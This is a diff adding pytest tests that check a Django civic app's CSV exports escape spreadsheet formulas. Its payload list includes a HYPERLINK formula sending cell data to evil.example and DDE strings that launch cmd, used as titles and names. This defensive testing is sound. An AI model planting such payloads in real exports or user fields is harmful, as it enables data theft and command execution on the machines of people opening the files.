@@ -218,3 +218,79 @@ def test_an_expired_unsubscribe_link_does_not_unsubscribe(bob):
     assert response.status_code == 404
     bob.refresh_from_db()
     assert bob.weekly_digest
+
+
+# --- CSV formula injection ------------------------------------------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A2,"Open")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def _cells(response) -> list[list[str]]:
+    import csv
+    import io
+
+    assert response.status_code == 200
+    assert response["Content-Type"].startswith("text/csv")
+    text = b"".join(response.streaming_content).decode("utf-8-sig")
+    return list(csv.reader(io.StringIO(text)))
+
+
+def _assert_neutralised(rows: list[list[str]], payload: str) -> None:
+    cells = [cell for row in rows for cell in row]
+    assert "'" + payload in cells, f"{payload!r} missing from {rows}"
+    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
+    assert not [c for c in cells if c.startswith("-") and not c.lstrip("-").replace(".", "").isdigit()]
+
+
+@pytest.mark.parametrize("payload", FORMULAS)
+def test_the_officials_csv_exports_neutralise_formulas(client, olga, alice, city, payload):
+    from participation import services as participation
+    from tests.participation.factories import CitySpaceFactory, ProposalFactory
+
+    CitySpaceFactory(city=city)
+    proposal = ProposalFactory(city=city, title=payload, author=alice)
+    participation.proposal_answer(proposal=proposal, official=olga, status="accepted", text=payload)
+    client.force_login(olga)
+
+    for what in ("proposals", "answers"):
+        rows = _cells(client.get(f"/en/cities/{city.slug}/dashboard/export/{what}.csv"))
+        _assert_neutralised(rows, payload)
+
+
+@pytest.mark.parametrize("payload", FORMULAS)
+def test_the_attendees_csv_neutralises_a_formula_as_a_name(client, payload):
+    from events import services as events
+    from tests.events.factories import EventFactory
+    from tests.factories import MemberFactory
+
+    organiser = MemberFactory(is_shaker=True)
+    event = EventFactory(created_by=organiser)
+    events.rsvp_create(event=event, member=MemberFactory(display_name=payload))
+    client.force_login(organiser)
+
+    _assert_neutralised(_cells(client.get(f"/en/events/{event.pk}/attendees.csv")), payload)
+
+
+@pytest.mark.parametrize("payload", FORMULAS)
+def test_the_volunteers_csv_neutralises_formulas_in_names_and_titles(client, alice_in_a, org_a, payload):
+    from tests.factories import MemberFactory
+    from tests.volunteering.factories import ParticipationFactory
+
+    slot = SlotFactory(mission=MissionFactory(organization=org_a, title_fr=payload, title_en=payload))
+    ParticipationFactory(slot=slot, member=MemberFactory(display_name=payload))
+    client.force_login(alice_in_a)
+
+    response = client.post(
+        "/admin/volunteering/slot/", {"action": "export_csv", "_selected_action": [slot.pk]}
+    )
+
+    rows = _cells(response)
+    _assert_neutralised(rows, payload)
+    assert sum(cell == "'" + payload for row in rows for cell in row) == 2  # mission and volunteer
